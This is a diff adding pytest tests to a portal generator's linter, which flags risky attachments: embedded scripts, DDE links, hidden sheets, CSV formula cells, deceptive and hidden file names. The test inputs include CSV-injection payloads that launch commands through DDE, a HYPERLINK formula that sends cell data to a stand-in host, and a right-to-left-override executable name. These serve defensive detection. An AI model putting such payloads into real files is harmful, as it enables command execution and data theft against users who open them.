@@ -10,9 +10,11 @@ import pytest
 from portalgen.diagnostics.formats import diagnostics_as_text
 from portalgen.diagnostics.model import LocalizedText, Place, Severity
 from portalgen.diagnostics.registry import CODES
+from portalgen.documents.features import DocumentFeature
 from portalgen.lint.attachment_text import AttachmentText
 from portalgen.lint.model import AttachmentRule, AttachmentViolation
-from portalgen.lint.rules.attachments import file_name_title, unnamed_file
+from portalgen.lint.rules.attachments import deceptive_name, file_name_title, hidden_file, unnamed_file
+from portalgen.lint.rules.attachments.csv_formula import is_formula
 from portalgen.lint.rules.attachments.table import RULES
 from portalgen.lint.run import place_violations
 from tests.makers.documents import make_document
@@ -47,6 +49,16 @@ def test_an_ordinary_file_is_silent() -> None:
         ({"creator": "Nguyễn Văn Mẫu"}, "ATT211"),
         ({"is_truncated": True}, "ATT212"),
         ({"text": "", "state": "too_slow"}, "ATT212"),
+        ({"features": (DocumentFeature("script", 1),)}, "ATT214"),
+        ({"features": (DocumentFeature("launch", 1), DocumentFeature("program", 2, "file", ("a.exe",)))}, "ATT214"),
+        ({"format": "docx", "features": (DocumentFeature("remote", 1), DocumentFeature("dde", 1))}, "ATT215"),
+        (
+            {"format": "xlsx", "features": (DocumentFeature("hidden_sheet", 1), DocumentFeature("hidden_row", 3))},
+            "ATT216",
+        ),
+        ({"format": "docx", "features": (DocumentFeature("revision", 5),)}, "ATT217"),
+        ({"features": (DocumentFeature("comment", 5, "page", ("2",)),)}, "ATT218"),
+        ({"format": "csv", "text": "a,b\n1,=1+1\n"}, "ATT219"),
     ],
 )
 def test_each_nature_of_a_file_is_reported_by_its_own_code(given: dict[str, Any], code: str) -> None:
@@ -64,7 +76,7 @@ def test_a_file_that_is_not_what_its_name_says_is_the_builds_to_tell() -> None:
 
 def test_what_blocks_is_only_what_is_certain() -> None:
     errors = {rule.code for rule in RULES if CODES[rule.code].severity is Severity.ERROR}
-    assert errors == {"ATT203", "ATT204", "ATT207"}
+    assert errors == {"ATT203", "ATT204", "ATT207", "ATT214", "ATT215", "ATT220"}
 
 
 def test_an_empty_file_that_is_no_pdf_is_no_scan() -> None:
@@ -231,3 +243,159 @@ class TestUnnamedFiles:
     def test_hidden_files_are_left_alone(self, portal: SmallPortal) -> None:
         portal.write(f"{self.FOLDER}/.DS_Store", b"\0")
         assert self.find_unnamed_files(portal) == []
+
+
+def test_what_a_file_carries_is_counted_placed_and_named_by_nobody() -> None:
+    features = (
+        DocumentFeature("hidden_sheet", 5, "sheet", ("Số gốc", "Tạm", "C`\u202e")),
+        DocumentFeature("hidden_row", 1, "sheet", ("Bảng",)),
+    )
+    violations = marks(format="xlsx", features=features)["ATT216"]
+    placed = place_violations([("ATT216", each) for each in violations], "a.xlsx", Place("content/so/a.vi.md"))
+    text = diagnostics_as_text([each.diagnostic for each in placed], "vi")
+    assert (
+        "tệp `a.xlsx` có phần bị ẩn mà ai cũng hiện lại được: 5 trang tính ẩn (trang tính `Số gốc`, `Tạm`, "
+        "`C<U+0060><U+202E>`, …); 1 hàng ẩn (trang tính `Bảng`)"
+    ) in text
+    (comments,) = marks(features=(DocumentFeature("comment", 2, "page", ("3",), has_names=True),))["ATT218"]
+    (placed_comment,) = place_violations([("ATT218", comments)], "a.pdf", Place("content/so/a.vi.md"))
+    shown = diagnostics_as_text([placed_comment.diagnostic], "vi")
+    assert "tệp `a.pdf` còn 2 nhận xét (trang `3`, …), có ghi tên người" in shown
+
+
+class TestCsv:
+    """Cells that a program computes, and those of ordinary tables."""
+
+    @pytest.mark.parametrize(
+        "cell",
+        [
+            "=1+1",
+            "= SUM(A1:A9)",
+            '=HYPERLINK("https://vi-du.example/?"&A1)',
+            "=cmd|' /C calc'!A0",
+            "@SUM(1+1)",
+            "+SUM(A1)",
+            "-2+3+cmd|' /C calc'!A0",
+            "+A1*B2",
+            "-$C$5",
+            "\t=1+1",
+            "\r=1+1",
+            "+Sheet2!A1",
+        ],
+    )
+    def test_formulas_are_reported(self, cell: str) -> None:
+        assert is_formula(cell)
+
+    @pytest.mark.parametrize(
+        "cell",
+        [
+            *(
+                "",
+                "-",
+                "--",
+                "–",
+                "=",
+                "= ",
+                "+",
+                "@",
+                "...",
+                "-5",
+                "+5",
+                "-5,5",
+                "-1.234.567,89",
+                "-5%",
+                "- 5",
+                "-5 (giảm)",
+            ),
+            *("+84 263 3822 123", "+84912345678", "-5°C", "-(12)", "+/-", "-0.5E-3", "2026-11-24", "-2026", "+7 giờ"),
+            *(
+                "- Trong đó: nữ",
+                "-Nam (18 tuổi)",
+                "- Tổng số (người)",
+                "+ Chi thường xuyên",
+                "-Chú ý!",
+                "@ubnd",
+                "=> kết quả",
+            ),
+            *("== Bảng 1 ==", "a=b", "thu-chi", "vp@lamdong.gov.vn", "\tthụt đầu dòng", "-x", "+ A1", "-Đạt (1)"),
+        ],
+    )
+    def test_numbers_dashes_telephones_and_words_are_none(self, cell: str) -> None:
+        assert not is_formula(cell)
+
+    def test_the_first_are_shown_with_line_and_column_and_all_are_counted(self) -> None:
+        text = 'Năm;Số\n2024;"hai\ndòng"\n2025;=A1\n=B1;=C1\n=D1;-5\n'
+        ((values,),) = ([each.values for each in marks(text, "csv")["ATT219"]],)
+        found = dict(values)
+        assert found["count"] == "4"
+        assert isinstance(found["places"], LocalizedText)
+        assert found["places"].vi == "dòng 4, cột 2: `=A1`; dòng 5, cột 1: `=B1`; dòng 5, cột 2: `=C1`; …"
+
+    def test_other_texts_are_left_alone(self) -> None:
+        assert marks("=1+1", "txt") == {}
+
+    def test_a_table_beyond_all_measure_is_read_in_linear_time(self) -> None:
+        for text in ("-" + "1" * 100_000, "+" + "A1" * 50_000, "-" + "a " * 50_000, "=" * 100_000, '"' + "-" * 500_000):
+            marks(text, "csv")
+
+
+class TestNames:
+    """Names that deceive, or that hide the file."""
+
+    @pytest.mark.parametrize(
+        "name", [".quy-che.pdf", "tep/.an/a.pdf", "a\u202efdp.exe", "a\u2066.pdf", "a\u200b.pdf", "a\x07.pdf"]
+    )
+    def test_a_name_that_deceives_is_reported_as_it_is(self, name: str) -> None:
+        (found,) = deceptive_name.check(AttachmentText(name, "pdf", 1, "read", "a"))
+        shown = str(dict(found.values)["shown"])
+        assert shown.isprintable()
+
+    @pytest.mark.parametrize(
+        "name", ["quy-che.pdf", "Quy chế (bản 2).pdf", "./a.pdf", "tep/a.tar.gz", "a..pdf", "ảnh–1.png"]
+    )
+    def test_ordinary_names_are_silent(self, name: str) -> None:
+        assert not list(deceptive_name.check(AttachmentText(name, "pdf", 1, "read", "a")))
+
+
+class TestHiddenFiles:
+    """Pages and files that begin with a dot, which the build passes over."""
+
+    def find(self, portal: SmallPortal) -> list[tuple[str, object]]:
+        context = load_lint_context(portal)
+        return [
+            (each.diagnostic.place.path, dict(each.diagnostic.values)["file"]) for each in hidden_file.check(context)
+        ]
+
+    def test_a_page_a_file_and_a_folder_are_each_reported_once(self, portal: SmallPortal) -> None:
+        portal.write("content/so/gioi-thieu/.lich-su.vi.md", page("so-lich-su"))
+        portal.write("content/so/gioi-thieu/.bao-cao.pdf", make_document("pdf", "Báo cáo"))
+        portal.write("content/so/.luu-tru/tin/a.vi.md", page("so-a"))
+        portal.write("content/so/.luu-tru/tin/b.vi.md", page("so-b"))
+        portal.write("content/.nhap/so/a.vi.md", page("so-c"))
+        assert sorted(self.find(portal)) == [
+            ("content/.nhap", ".nhap/"),
+            ("content/so/.luu-tru", ".luu-tru/"),
+            ("content/so/gioi-thieu/.bao-cao.pdf", ".bao-cao.pdf"),
+            ("content/so/gioi-thieu/.lich-su.vi.md", ".lich-su.vi.md"),
+        ]
+
+    def test_what_programs_put_there_is_left_alone(self, portal: SmallPortal) -> None:
+        for name in (
+            ".DS_Store",
+            "._a.vi.md",
+            ".~lock.a.docx#",
+            ".a.vi.md.swp",
+            ".gitkeep",
+            ".gitattributes",
+            ".~a.pdf",
+        ):
+            portal.write(f"content/so/gioi-thieu/{name}", "a")
+        portal.write("content/so/.git/a.md", "a")
+        portal.write("content/so/.vscode/settings.ini", "a")
+        (portal.root / "content/so/gioi-thieu/.#a.vi.md").symlink_to("nguoi-soan@may.123")
+        assert self.find(portal) == []
+
+    def test_a_hidden_file_that_a_page_names_is_told_there(self, portal: SmallPortal) -> None:
+        portal.write("content/so/gioi-thieu/x/.a.pdf", make_document("pdf", "A"))
+        portal.write("content/so/gioi-thieu/x/index.vi.md", page("so-x", "[A](.a.pdf)\n"))
+        assert self.find(portal) == []
